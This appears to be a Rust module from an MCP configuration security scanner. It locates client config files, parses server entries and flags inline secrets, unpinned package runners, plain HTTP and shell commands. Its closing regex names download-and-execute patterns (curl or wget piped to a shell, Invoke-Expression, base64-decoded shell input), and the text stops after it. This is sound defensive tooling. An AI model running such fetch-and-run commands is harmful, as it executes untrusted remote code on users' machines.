//! MCP client configurations: where the known clients keep them, how to
//! parse their shapes into one [`ServerConfig`] list, and the risks in them
//! (inline secrets, unpinned package runners, plain HTTP, shells, broad
//! filesystem roots).
//!
//! Secret values are kept as [`Secret`]; they never reach `Debug`, JSON or
//! evidence. Arguments and URLs are redacted when displayed.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use mcpsec_core::Secret;
use regex::Regex;
use serde::{Serialize, Serializer};
use serde_json::{Map, Value};

use crate::analyze::Analyzer;
use crate::error::ConfigError;
use crate::finding::Finding;
use crate::rules::{Detector, RuleSet};
use crate::text;

/// How a client talks to a server.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Transport {
    Stdio,
    /// Streamable HTTP.
    Http,
    /// Legacy HTTP + Server-Sent Events.
    Sse,
}

/// One configured MCP server, whatever client it came from.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ServerConfig {
    pub name: String,
    /// The client (`claude-desktop`, `cursor`, `vscode`, …).
    pub client: String,
    /// The file it was read from.
    pub source: PathBuf,
    /// A sub-scope of the file (a Claude Code project path), when any.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub scope: Option<String>,
    pub transport: Transport,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    /// Serialized with secret-looking values redacted.
    #[serde(serialize_with = "ser_args")]
    pub args: Vec<String>,
    /// Serialized as the variable names only.
    #[serde(serialize_with = "ser_keys")]
    pub env: BTreeMap<String, Secret>,
    /// Serialized with credentials and secret query parameters redacted.
    #[serde(serialize_with = "ser_url", skip_serializing_if = "Option::is_none")]
    pub url: Option<String>,
    /// Serialized as the header names only.
    #[serde(serialize_with = "ser_keys")]
    pub headers: BTreeMap<String, Secret>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cwd: Option<String>,
    pub disabled: bool,
}

fn ser_keys<S: Serializer>(m: &BTreeMap<String, Secret>, s: S) -> Result<S::Ok, S::Error> {
    s.collect_seq(m.keys())
}

fn ser_args<S: Serializer>(a: &[String], s: S) -> Result<S::Ok, S::Error> {
    s.collect_seq(redact_args(a))
}

fn ser_url<S: Serializer>(u: &Option<String>, s: S) -> Result<S::Ok, S::Error> {
    match u {
        Some(u) => s.serialize_str(&redact_url(u)),
        None => s.serialize_none(),
    }
}

impl ServerConfig {
    /// The command line with secret-looking arguments redacted.
    pub fn display_command(&self) -> String {
        let mut parts = Vec::new();
        if let Some(c) = &self.command {
            parts.push(c.clone());
        }
        parts.extend(redact_args(&self.args));
        parts.join(" ")
    }

    /// The URL with credentials and secret query parameters redacted.
    pub fn display_url(&self) -> Option<String> {
        self.url.as_deref().map(redact_url)
    }

    /// A one-line target: the command line or the URL.
    pub fn display_target(&self) -> String {
        match self.transport {
            Transport::Stdio => self.display_command(),
            _ => self.display_url().unwrap_or_default(),
        }
    }
}

// ------------------------------------------------------------------ discovery

/// The operating system whose conventions to use for config locations.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Os {
    Linux,
    MacOs,
    Windows,
}

impl Os {
    pub fn current() -> Os {
        if cfg!(target_os = "macos") {
            Os::MacOs
        } else if cfg!(windows) {
            Os::Windows
        } else {
            Os::Linux
        }
    }
}

/// What discovery needs to know about the machine.
#[derive(Debug, Clone)]
pub struct DiscoveryEnv {
    pub os: Os,
    pub home: PathBuf,
    /// The project directory for project-level configs (`.mcp.json`, `.vscode/mcp.json`…).
    pub cwd: PathBuf,
    /// `%APPDATA%` on Windows.
    pub appdata: Option<PathBuf>,
    /// `$XDG_CONFIG_HOME` on Linux.
    pub xdg_config: Option<PathBuf>,
}

impl DiscoveryEnv {
    /// From the running process (HOME/USERPROFILE, APPDATA, XDG_CONFIG_HOME, cwd).
    pub fn from_process() -> Option<DiscoveryEnv> {
        let home = std::env::var_os("HOME").or_else(|| std::env::var_os("USERPROFILE"))?;
        Some(DiscoveryEnv {
            os: Os::current(),
            home: PathBuf::from(home),
            cwd: std::env::current_dir().ok()?,
            appdata: std::env::var_os("APPDATA").map(PathBuf::from),
            xdg_config: std::env::var_os("XDG_CONFIG_HOME").map(PathBuf::from),
        })
    }
}

/// A client config file location.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct KnownConfig {
    pub client: String,
    pub path: PathBuf,
}

/// Every location the known clients read MCP servers from, existing or not.
pub fn candidate_paths(env: &DiscoveryEnv) -> Vec<KnownConfig> {
    let h = &env.home;
    // Per-OS application config directory (where VS Code and Claude Desktop keep settings).
    let app = match env.os {
        Os::MacOs => h.join("Library/Application Support"),
        Os::Windows => env
            .appdata
            .clone()
            .unwrap_or_else(|| h.join("AppData/Roaming")),
        Os::Linux => env.xdg_config.clone().unwrap_or_else(|| h.join(".config")),
    };
    let xdg = env.xdg_config.clone().unwrap_or_else(|| h.join(".config"));
    let mut v: Vec<(&str, PathBuf)> = vec![
        (
            "claude-desktop",
            app.join("Claude/claude_desktop_config.json"),
        ),
        ("claude-code", h.join(".claude.json")),
        ("claude-code", env.cwd.join(".mcp.json")),
        ("cursor", h.join(".cursor/mcp.json")),
        ("cursor", env.cwd.join(".cursor/mcp.json")),
        ("windsurf", h.join(".codeium/windsurf/mcp_config.json")),
        ("gemini-cli", h.join(".gemini/settings.json")),
        ("gemini-cli", env.cwd.join(".gemini/settings.json")),
        ("kiro", h.join(".kiro/settings/mcp.json")),
        ("amazon-q", h.join(".aws/amazonq/mcp.json")),
        ("vscode", env.cwd.join(".vscode/mcp.json")),
        (
            "zed",
            if env.os == Os::Windows {
                app.join("Zed/settings.json")
            } else {
                xdg.join("zed/settings.json")
            },
        ),
    ];
    for (client, dir) in [
        ("vscode", "Code"),
        ("vscode-insiders", "Code - Insiders"),
        ("cursor", "Cursor"),
        ("windsurf", "Windsurf"),
    ] {
        let user = app.join(dir).join("User");
        v.push((client, user.join("settings.json")));
        v.push((client, user.join("mcp.json")));
        v.push((
            "cline",
            user.join("globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json"),
        ));
        v.push((
            "roo-code",
            user.join("globalStorage/rooveterinaryinc.roo-cline/settings/mcp_settings.json"),
        ));
    }
    let mut seen = std::collections::HashSet::new();
    v.into_iter()
        .filter(|(_, p)| seen.insert(p.clone()))
        .map(|(c, p)| KnownConfig {
            client: c.to_string(),
            path: p,
        })
        .collect()
}

/// The known config files that exist.
pub fn discover(env: &DiscoveryEnv) -> Vec<KnownConfig> {
    candidate_paths(env)
        .into_iter()
        .filter(|k| k.path.is_file())
        .collect()
}

/// Guesses the client from a config file path.
pub fn guess_client(path: &Path) -> String {
    let p = path.to_string_lossy().replace('\\', "/");
    let p = p.to_ascii_lowercase() + "/";
    let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
    let lname = name.to_ascii_lowercase();
    for (hint, client) in [
        ("claude_desktop", "claude-desktop"),
        ("cline", "cline"),
        ("cursor", "cursor"),
        ("windsurf", "windsurf"),
        ("gemini", "gemini-cli"),
        ("zed", "zed"),
        ("vscode", "vscode"),
    ] {
        if lname.contains(hint) {
            return client.to_string();
        }
    }
    let c = if name == "claude_desktop_config.json" {
        "claude-desktop"
    } else if name == ".claude.json" || name == ".mcp.json" {
        "claude-code"
    } else if p.contains("cline_mcp_settings") || p.contains("saoudrizwan.claude-dev") {
        "cline"
    } else if p.contains("rooveterinaryinc") {
        "roo-code"
    } else if p.contains("/.cursor/") || p.contains("/cursor/") {
        "cursor"
    } else if p.contains("windsurf") || p.contains(".codeium") {
        "windsurf"
    } else if p.contains("/.gemini/") {
        "gemini-cli"
    } else if p.contains("/zed/") {
        "zed"
    } else if p.contains("/.vscode/") || p.contains("/code/") || p.contains("code - insiders") {
        "vscode"
    } else if p.contains("/.kiro/") {
        "kiro"
    } else if p.contains("amazonq") {
        "amazon-q"
    } else {
        "unknown"
    };
    c.to_string()
}

// ------------------------------------------------------------------ parsing

/// The servers of one config file, plus entries that were skipped and why.
#[derive(Debug, Clone, Default)]
pub struct ParsedConfig {
    pub servers: Vec<ServerConfig>,
    pub warnings: Vec<String>,
}

/// Largest config file read, in bytes (a `~/.claude.json` with a long
/// history can be several megabytes).
pub const MAX_CONFIG_BYTES: u64 = 64 * 1024 * 1024;

/// Reads and parses a client config file; `client` is guessed from the path when `None`.
pub fn parse_config_file(path: &Path, client: Option<&str>) -> Result<ParsedConfig, ConfigError> {
    let io = |source| ConfigError::Io {
        path: path.to_path_buf(),
        source,
    };
    let meta = std::fs::metadata(path).map_err(io)?;
    if meta.len() > MAX_CONFIG_BYTES {
        return Err(ConfigError::Shape {
            path: path.into(),
            at: "$".into(),
            message: format!(
                "file is {} bytes; the limit is {MAX_CONFIG_BYTES}",
                meta.len()
            ),
        });
    }
    let text = std::fs::read_to_string(path).map_err(io)?;
    let client = client
        .map(str::to_string)
        .unwrap_or_else(|| guess_client(path));
    parse_config_str(&text, path, &client)
}

/// Parses config text (JSON with comments and trailing commas accepted).
/// Map entries in key order, whatever serde_json's `preserve_order` feature
/// (unified into the workspace by other crates) does, so output is stable.
fn sorted(map: &serde_json::Map<String, Value>) -> Vec<(&String, &Value)> {
    let mut v: Vec<_> = map.iter().collect();
    v.sort_by(|a, b| a.0.cmp(b.0));
    v
}

pub fn parse_config_str(
    text: &str,
    path: &Path,
    client: &str,
) -> Result<ParsedConfig, ConfigError> {
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    let clean = text::strip_jsonc(text);
    let root: Value = serde_json::from_str(&clean).map_err(|e| ConfigError::Json {
        path: path.to_path_buf(),
        line: e.line(),
        column: e.column(),
        message: e.to_string(),
    })?;
    let shape = |at: &str, message: String| ConfigError::Shape {
        path: path.to_path_buf(),
        at: at.to_string(),
        message,
    };
    let Some(obj) = root.as_object() else {
        return Err(shape("$", "expected a JSON object".into()));
    };
    let mut out = ParsedConfig::default();
    let mut maps: Vec<(String, Option<String>, &Value)> = Vec::new();
    if let Some(m) = obj.get("mcpServers") {
        maps.push(("mcpServers".into(), None, m));
    }
    if let Some(m) = obj.get("servers") {
        maps.push(("servers".into(), None, m));
    }
    if let Some(m) = obj.get("mcp").and_then(|m| m.get("servers")) {
        maps.push(("mcp.servers".into(), None, m));
    }
    if let Some(m) = obj.get("mcp.servers") {
        maps.push(("mcp.servers".into(), None, m));
    }
    if let Some(m) = obj.get("context_servers") {
        maps.push(("context_servers".into(), None, m));
    }
    if let Some(Value::Object(projects)) = obj.get("projects") {
        for (proj, p) in sorted(projects) {
            if let Some(m) = p.get("mcpServers") {
                maps.push((format!("projects.{proj}.mcpServers"), Some(proj.clone()), m));
            }
        }
    }
    for (at, scope, m) in maps {
        let Value::Object(entries) = m else {
            return Err(shape(
                &at,
                format!(
                    "expected an object mapping server names to servers, found {}",
                    kind(m)
                ),
            ));
        };
        for (name, entry) in sorted(entries) {
            let here = format!("{at}.{name}");
            match parse_entry(name, entry, &here, path, client, scope.clone()) {
                Ok(Some(s)) => out.servers.push(s),
                Ok(None) => out.warnings.push(format!(
                    "{}: {here}: no command or URL (provided by an extension?); skipped",
                    path.display()
                )),
                Err(e) => return Err(shape(&here, e)),
            }
        }
    }
    Ok(out)
}

fn kind(v: &Value) -> &'static str {
    match v {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "an array",
        Value::Object(_) => "an object",
    }
}

fn str_map(v: Option<&Value>, what: &str) -> Result<BTreeMap<String, Secret>, String> {
    match v {
        None | Some(Value::Null) => Ok(BTreeMap::new()),
        Some(Value::Object(o)) => o
            .iter()
            .map(|(k, v)| match v {
                Value::String(s) => Ok((k.clone(), Secret::new(s.clone()))),
                Value::Number(_) | Value::Bool(_) => Ok((k.clone(), Secret::new(v.to_string()))),
                other => Err(format!(
                    "{what}.{k}: expected a string, found {}",
                    kind(other)
                )),
            })
            .collect(),
        Some(other) => Err(format!("{what}: expected an object, found {}", kind(other))),
    }
}

fn str_list(v: Option<&Value>, what: &str) -> Result<Vec<String>, String> {
    match v {
        None | Some(Value::Null) => Ok(Vec::new()),
        Some(Value::Array(a)) => a
            .iter()
            .enumerate()
            .map(|(i, v)| match v {
                Value::String(s) => Ok(s.clone()),
                Value::Number(_) | Value::Bool(_) => Ok(v.to_string()),
                other => Err(format!(
                    "{what}[{i}]: expected a string, found {}",
                    kind(other)
                )),
            })
            .collect(),
        Some(other) => Err(format!("{what}: expected an array, found {}", kind(other))),
    }
}

fn opt_str(o: &Map<String, Value>, key: &str) -> Result<Option<String>, String> {
    match o.get(key) {
        None | Some(Value::Null) => Ok(None),
        Some(Value::String(s)) => Ok(Some(s.clone())),
        Some(other) => Err(format!("{key}: expected a string, found {}", kind(other))),
    }
}

fn parse_entry(
    name: &str,
    v: &Value,
    _at: &str,
    path: &Path,
    client: &str,
    scope: Option<String>,
) -> Result<Option<ServerConfig>, String> {
    let Value::Object(o) = v else {
        return Err(format!("expected a server object, found {}", kind(v)));
    };
    // Zed (older shape): "command": {"path": ..., "args": [...], "env": {...}}.
    let (command, mut args, mut env) = match o.get("command") {
        Some(Value::Object(c)) => (
            opt_str(c, "path")?,
            str_list(c.get("args"), "command.args")?,
            str_map(c.get("env"), "command.env")?,
        ),
        Some(Value::String(s)) => (Some(s.clone()), Vec::new(), BTreeMap::new()),
        None | Some(Value::Null) => (None, Vec::new(), BTreeMap::new()),
        Some(other) => return Err(format!("command: expected a string, found {}", kind(other))),
    };
    args.extend(str_list(o.get("args"), "args")?);
    env.extend(str_map(o.get("env"), "env")?);
    let http_url = opt_str(o, "httpUrl")?;
    let url = http_url
        .clone()
        .or(opt_str(o, "url")?)
        .or(opt_str(o, "serverUrl")?)
        .or(opt_str(o, "uri")?);
    let ty = opt_str(o, "type")?
        .or(opt_str(o, "transport")?)
        .map(|t| t.to_ascii_lowercase());
    let transport = match ty.as_deref() {
        Some("stdio") | Some("local") => Transport::Stdio,
        Some("sse") => Transport::Sse,
        Some("http")
        | Some("streamable-http")
        | Some("streamablehttp")
        | Some("streamable_http")
        | Some("remote") => Transport::Http,
        Some(other) => {
            return Err(format!(
                "type: unknown transport {other:?}; expected stdio, sse or http"
            ));
        }
        None if command.is_some() => Transport::Stdio,
        None if http_url.is_some() => Transport::Http,
        // Gemini CLI and older clients: `url` is SSE; others default to streamable HTTP.
        None if url
            .as_deref()
            .is_some_and(|u| u.trim_end_matches('/').ends_with("/sse"))
            || client == "gemini-cli" =>
        {
            Transport::Sse
        }
        None if url.is_some() => Transport::Http,
        None => return Ok(None),
    };
    if transport == Transport::Stdio && command.is_none() {
        return Err("stdio server has no `command`".into());
    }
    if transport != Transport::Stdio && url.is_none() {
        return Err("remote server has no `url`".into());
    }
    let headers = str_map(o.get("headers"), "headers")?;
    let disabled = o.get("disabled").and_then(Value::as_bool).unwrap_or(false)
        || o.get("enabled").and_then(Value::as_bool) == Some(false);
    Ok(Some(ServerConfig {
        name: name.to_string(),
        client: client.to_string(),
        source: path.to_path_buf(),
        scope,
        transport,
        command,
        args,
        env,
        url,
        headers,
        cwd: opt_str(o, "cwd")?,
        disabled,
    }))
}

// ------------------------------------------------------------------ secrets

/// Known token formats: (regex, name).
fn known_tokens() -> &'static [(Regex, &'static str)] {
    static R: OnceLock<Vec<(Regex, &'static str)>> = OnceLock::new();
    R.get_or_init(|| {
        [
            (r"\b(ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9]{36,}", "GitHub token"),
            (
                r"\bgithub_pat_[A-Za-z0-9_]{22,}",
                "GitHub fine-grained token",
            ),
            (r"\b(AKIA|ASIA)[0-9A-Z]{16}\b", "AWS access key id"),
            (r"\bxox[abposr]-[A-Za-z0-9-]{10,}", "Slack token"),
            (r"\bsk-ant-[A-Za-z0-9_-]{20,}", "Anthropic API key"),
            (r"\bsk-(proj-)?[A-Za-z0-9_-]{20,}", "OpenAI API key"),
            (r"\bglpat-[A-Za-z0-9_-]{20,}", "GitLab token"),
            (r"\bAIza[0-9A-Za-z_-]{35}", "Google API key"),
            (r"\b(sk|rk)_live_[0-9A-Za-z]{16,}", "Stripe secret key"),
            (r"\bnpm_[A-Za-z0-9]{36}\b", "npm token"),
            (r"-----BEGIN [A-Z ]*PRIVATE KEY-----", "private key"),
            (
                r"\beyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}",
                "JSON Web Token",
            ),
            (r"(?i)^bearer\s+\S{16,}", "bearer token"),
        ]
        .into_iter()
        .map(|(p, n)| (Regex::new(p).expect("valid regex"), n))
        .collect()
    })
}

fn secret_name() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r"(?i)(key|token|secret|passw(or)?d|pwd|credential|auth|\bpat\b|_pat$|^pat_)")
            .expect("valid regex")
    })
}

fn password_name() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| Regex::new(r"(?i)(passw(or)?d|pwd)").expect("valid regex"))
}

/// Values that are references or placeholders, not secrets.
pub fn is_placeholder(v: &str) -> bool {
    let t = v.trim();
    // `Bearer $TOKEN`, `Bearer ${input:token}`: the scheme before a reference.
    let t = t
        .strip_prefix("Bearer ")
        .or_else(|| t.strip_prefix("bearer "))
        .or_else(|| t.strip_prefix("Token "))
        .map(str::trim)
        .unwrap_or(t);
    if is_env_var_name(t) {
        // The value names a variable (`GITHUB_TOKEN`) instead of holding a secret.
        return true;
    }
    let l = t.to_ascii_lowercase();
    l.is_empty()
        || l.starts_with('$')
        || l.starts_with("{env:")
        || l.starts_with("{file:")
        || l.starts_with("env:")
        || l.starts_with('%') && l.ends_with('%')
        || l.starts_with('<') && l.ends_with('>')
        || l.starts_with("{{")
        || l.starts_with("op://")
        || l.contains("${")
        || [
            "your",
            "xxx",
            "changeme",
            "change-me",
            "example",
            "placeholder",
            "replace",
            "...",
            "redacted",
            "todo",
            "dummy",
        ]
        .iter()
        .any(|p| l.contains(p))
}

/// An environment variable name such as `GITHUB_TOKEN` or `OPENAI_API_KEY`
/// (upper case, at least one underscore): a reference, not a secret value.
pub fn is_env_var_name(v: &str) -> bool {
    let b = v.as_bytes();
    b.len() >= 3
        && b[0].is_ascii_uppercase()
        && b.contains(&b'_')
        && !b.ends_with(b"_")
        && !v.contains("__")
        && b.iter()
            .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || *c == b'_')
}

/// Flags that take the *name* or location of a secret, not the secret
/// (`--api-key-env OPENAI_API_KEY`, `--token-file ~/.token`).
fn names_secret_elsewhere(flag: &str) -> bool {
    let f = flag.to_ascii_lowercase();
    ["env", "var", "file", "path", "dir", "name", "header"]
        .iter()
        .any(|w| f.split(['-', '_']).any(|p| p == *w))
}

/// Why `value` (named `name`, if it has a name) is an inline secret, if it is:
/// (kind, redacted preview).
pub fn secret_kind(name: Option<&str>, value: &str) -> Option<(String, String)> {
    if is_placeholder(value) {
        return None;
    }
    for (re, kind) in known_tokens() {
        if let Some(m) = re.find(value) {
            let prefix: String = m
                .as_str()
                .chars()
                .take_while(|c| !c.is_ascii_digit())
                .take(4)
                .collect();
            let preview = if *kind == "private key" || *kind == "bearer token" {
                Secret::REDACTED.to_string()
            } else {
                format!("{prefix}{}", Secret::REDACTED)
            };
            return Some((kind.to_string(), preview));
        }
    }
    if value.contains("://") {
        let r = redact_url(value);
        if r != value {
            return Some(("credentials in a URL".into(), r));
        }
    }
    let name = name?;
    if !secret_name().is_match(name) {
        return None;
    }
    let v = value.trim();
    let is_password = password_name().is_match(name) && v.len() >= 4;
    let high_entropy =
        v.len() >= 16 && text::entropy(v) >= 3.0 && !v.contains(' ') && !v.contains('/');
    if is_password || high_entropy {
        let kind = if is_password {
            "password"
        } else {
            "high-entropy value"
        };
        return Some((kind.to_string(), Secret::REDACTED.to_string()));
    }
    None
}

/// Flags whose next argument is a secret.
fn secret_flag(a: &str) -> Option<&str> {
    let f = a.strip_prefix("--").or_else(|| a.strip_prefix('-'))?;
    let f = f.split('=').next().unwrap_or(f);
    secret_name().is_match(f).then_some(f)
}

/// Arguments with secret values replaced by `***redacted***`.
pub fn redact_args(args: &[String]) -> Vec<String> {
    let mut out = Vec::with_capacity(args.len());
    let mut next_secret: Option<&str> = None;
    for a in args {
        if let Some(flag) = next_secret.take()
            && (secret_kind(Some(flag), a).is_some()
                || !a.starts_with('-') && !is_placeholder(a) && !names_secret_elsewhere(flag))
        {
            out.push(Secret::REDACTED.to_string());
            continue;
        }
        if let Some((flag, value)) = a.split_once('=')
            && let Some(f) =
                secret_flag(flag).or_else(|| secret_name().is_match(flag).then_some(flag))
            && (secret_kind(Some(f), value).is_some()
                && !(names_secret_elsewhere(f) && secret_kind(None, value).is_none()))
        {
            out.push(format!("{flag}={}", Secret::REDACTED));
            continue;
        }
        if secret_kind(None, a).is_some() {
            out.push(Secret::REDACTED.to_string());
            continue;
        }
        if let Some(f) = secret_flag(a).filter(|_| !a.contains('=')) {
            next_secret = Some(f);
        }
        out.push(redact_url(a));
    }
    out
}

/// A URL with `user:password@` and secret-looking query values redacted.
pub fn redact_url(u: &str) -> String {
    static CRED: OnceLock<Regex> = OnceLock::new();
    static QUERY: OnceLock<Regex> = OnceLock::new();
    let cred = CRED.get_or_init(|| {
        Regex::new(r"^([a-zA-Z][a-zA-Z0-9+.-]*://)[^/\s@]+@").expect("valid regex")
    });
    let query = QUERY.get_or_init(|| Regex::new(r"([?&]([^=&#]+)=)([^&#]*)").expect("valid regex"));
    let u = cred.replace(u, format!("${{1}}{}@", Secret::REDACTED));
    query
        .replace_all(&u, |c: &regex::Captures<'_>| {
            if secret_name().is_match(&c[2]) && !is_placeholder(&c[3])
                || secret_kind(None, &c[3]).is_some()
            {
                format!("{}{}", &c[1], Secret::REDACTED)
            } else {
                c[0].to_string()
            }
        })
        .into_owned()
}

// ------------------------------------------------------------------ checks

/// Runs the enabled `server_config` rules on one server.
pub fn check(rules: &RuleSet, cfg: &ServerConfig) -> Vec<Finding> {
    let mut out = Vec::new();
    let src = cfg.source.display().to_string();
    for rule in rules.for_target(crate::rules::Target::ServerConfig) {
        let mut push = |location: String, message: String, evidence: String| {
            out.push(Analyzer::finding(
                rule,
                &cfg.name,
                None,
                Some(&src),
                Some(location),
                message,
                evidence,
            ));
        };
        match rule.detector() {
            None => {
                // User regex rules match the redacted command line and URL.
                for (loc, t) in [
                    ("command", cfg.display_command()),
                    ("url", cfg.display_url().unwrap_or_default()),
                ] {
                    if let Some((a, b)) = rule.find(&t) {
                        push(loc.into(), rule.message.clone(), text::evidence(&t, a, b));
                        break;
                    }
                }
            }
            Some(Detector::InlineSecret) => {
                for (k, v) in &cfg.env {
                    if let Some((kind, preview)) = secret_kind(Some(k), v.expose()) {
                        push(
                            format!("env.{k}"),
                            format!("{}: {kind} in env var {k}", rule.message),
                            format!("{k}={preview}"),
                        );
                    }
                }
                for (k, v) in &cfg.headers {
                    if let Some((kind, preview)) = secret_kind(Some(k), v.expose()) {
                        push(
                            format!("headers.{k}"),
                            format!("{}: {kind} in header {k}", rule.message),
                            format!("{k}: {preview}"),
                        );
                    }
                }
                let red = redact_args(&cfg.args);
                for (i, (a, r)) in cfg.args.iter().zip(&red).enumerate() {
                    if a != r {
                        push(
                            format!("args[{i}]"),
                            format!("{}: secret in command-line argument {i}", rule.message),
                            r.clone(),
                        );
                    }
                }
                if let Some(u) = &cfg.url {
                    let r = redact_url(u);
                    if &r != u {
                        push(
                            "url".into(),
                            format!("{}: credentials in the server URL", rule.message),
                            r,
                        );
                    }
                }
            }
            Some(Detector::UnpinnedRunner) => {
                if let Some(msg) = unpinned(cfg) {
                    push(
                        "command".into(),
                        format!("{}: {msg}", rule.message),
                        cfg.display_command(),
                    );
                }
            }
            Some(Detector::PlainHttp) => {
                if let Some(u) = &cfg.url
                    && is_plain_remote(u)
                {
                    push("url".into(), rule.message.clone(), redact_url(u));
                }
            }
            Some(Detector::ShellCommand) => {
                if let Some(msg) = shell(cfg) {
                    push(
                        "command".into(),
                        format!("{}: {msg}", rule.message),
                        cfg.display_command(),
                    );
                }
            }
            Some(Detector::BroadFsRoot) => {
                for (i, a) in cfg.args.iter().enumerate() {
                    if is_broad_root(a) {
                        push(
                            format!("args[{i}]"),
                            format!("{}: {a:?}", rule.message),
                            a.clone(),
                        );
                        break;
                    }
                }
            }
            Some(_) => {}
        }
    }
    out
}

fn basename(cmd: &str) -> String {
    let b = cmd
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(cmd)
        .to_ascii_lowercase();
    for ext in [".exe", ".cmd", ".bat", ".ps1"] {
        if let Some(s) = b.strip_suffix(ext) {
            return s.to_string();
        }
    }
    b
}

/// The effective program and its arguments (`cmd /c npx …` → `npx …`).
fn effective(cfg: &ServerConfig) -> Option<(String, Vec<&str>)> {
    let cmd = basename(cfg.command.as_deref()?);
    let args: Vec<&str> = cfg.args.iter().map(String::as_str).collect();
    if cmd == "cmd" && args.first().is_some_and(|a| a.eq_ignore_ascii_case("/c")) && args.len() > 1
    {
        return Some((basename(args[1]), args[2..].to_vec()));
    }
    Some((cmd, args))
}

fn npm_pinned(spec: &str) -> bool {
    let rest = spec
        .strip_prefix('@')
        .map(|s| s.split_once('/').map(|x| x.1).unwrap_or(s))
        .unwrap_or(spec);
    match rest.split_once('@') {
        Some((_, v)) => !v.is_empty() && !matches!(v, "latest" | "next" | "*" | "x"),
        None => false,
    }
}

fn is_local(spec: &str) -> bool {
    spec.starts_with('.')
        || spec.starts_with('/')
        || spec.starts_with('~')
        || spec.contains(":\\")
        || spec.starts_with("file:")
}

/// The first positional argument, skipping flags and the values of `with_value` flags.
fn positional<'a>(args: &[&'a str], with_value: &[&str]) -> Option<(&'a str, Option<&'a str>)> {
    let mut i = 0;
    let mut from = None;
    while i < args.len() {
        let a = args[i];
        if a == "--" {
            return args.get(i + 1).map(|p| (*p, from));
        }
        if a.starts_with('-') {
            let flag = a.split('=').next().unwrap_or(a);
            if with_value.contains(&flag) && !a.contains('=') {
                if matches!(flag, "-p" | "--package" | "--from" | "--spec") {
                    from = args.get(i + 1).copied();
                }
                i += 2;
            } else {
                if let Some(v) = a
                    .strip_prefix("--package=")
                    .or(a.strip_prefix("--from="))
                    .or(a.strip_prefix("--spec="))
                {
                    from = Some(v);
                }
                i += 1;
            }
            continue;
        }
        return Some((a, from));
    }
    from.map(|f| (f, Some(f)))
}

fn unpinned(cfg: &ServerConfig) -> Option<String> {
    let (cmd, args) = effective(cfg)?;
    let (runner, rest): (&str, &[&str]) = match (cmd.as_str(), args.first().copied()) {
        ("npx" | "bunx" | "pnpx", _) => ("npm", &args[..]),
        ("pnpm" | "yarn", Some("dlx")) | ("npm", Some("exec")) | ("bun", Some("x")) => {
            ("npm", &args[1..])
        }
        ("uvx", _) => ("uv", &args[..]),
        ("uv", Some("tool")) if args.get(1) == Some(&"run") => ("uv", &args[2..]),
        ("pipx", Some("run")) => ("pipx", &args[1..]),
        ("docker" | "podman", Some("run")) => ("docker", &args[1..]),
        _ => return None,
    };
    match runner {
        "npm" => {
            let (p, from) = positional(
                rest,
                &[
                    "-p",
                    "--package",
                    "-c",
                    "--call",
                    "--registry",
                    "--cache",
                    "--userconfig",
                ],
            )?;
            let spec = from.unwrap_or(p);
            (!is_local(spec) && !npm_pinned(spec))
                .then(|| format!("{cmd} runs {spec:?} without a version (pin it as {spec}@x.y.z)"))
        }
        "uv" | "pipx" => {
            let (p, from) = positional(
                rest,
                &[
                    "--from",
                    "--with",
                    "--spec",
                    "--python",
                    "-p",
                    "--index-url",
                    "--index",
                    "--extra-index-url",
                    "-w",
                    "--with-requirements",
                ],
            )?;
            let spec = from.unwrap_or(p);
            let pinned = spec.contains("==")
                || spec.contains('@')
                || spec.starts_with("git+") && spec.contains('@');
            (!is_local(spec) && !pinned)
                .then(|| format!("{cmd} runs {spec:?} without a version (pin it as {spec}==x.y.z)"))
        }
        _ => {
            let with_value = [
                "-e",
                "--env",
                "-v",
                "--volume",
                "--name",
                "-p",
                "--publish",
                "--mount",
                "-w",
                "--workdir",
                "--network",
                "--net",
                "-u",
                "--user",
                "--entrypoint",
                "--platform",
                "--env-file",
                "-l",
                "--label",
                "--pull",
                "-h",
                "--hostname",
                "--add-host",
                "--memory",
                "-m",
                "--cpus",
            ];
            let (image, _) = positional(rest, &with_value)?;
            if image.contains("@sha256:") {
                return None;
            }
            let last = image.rsplit('/').next().unwrap_or(image);
            match last.split_once(':') {
                Some((_, tag)) if tag != "latest" => None,
                _ => Some(format!(
                    "{cmd} runs image {image:?} without a tag or digest"
                )),
            }
        }
    }
}

fn is_plain_remote(u: &str) -> bool {
    let l = u.trim().to_ascii_lowercase();
    let Some(rest) = l
        .strip_prefix("http://")
        .or_else(|| l.strip_prefix("ws://"))
    else {
        return false;
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if host_port.starts_with('[') {
        host_port
            .split(']')
            .next()
            .unwrap_or("")
            .trim_start_matches('[')
    } else {
        host_port.split(':').next().unwrap_or("")
    };
    !(host == "localhost"
        || host.ends_with(".localhost")
        || host.starts_with("127.")
        || host == "::1"
        || host == "0.0.0.0"
        || host.is_empty())
}

fn download_exec() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r"(?i)\b(curl|wget|iwr|invoke-webrequest|irm|invoke-restmethod)\b[^|;&]*\|\s*(sudo\s+)?(sh|bash|zsh|dash|iex|invoke-expression|python3?|node|perl|ruby)\b|\biex\s*\(|\binvoke-expression\b|\bbase64\s+(-d|--decode)\b[^|]*\|\s*(sh|bash)")
            .expect("valid regex")
    })
}

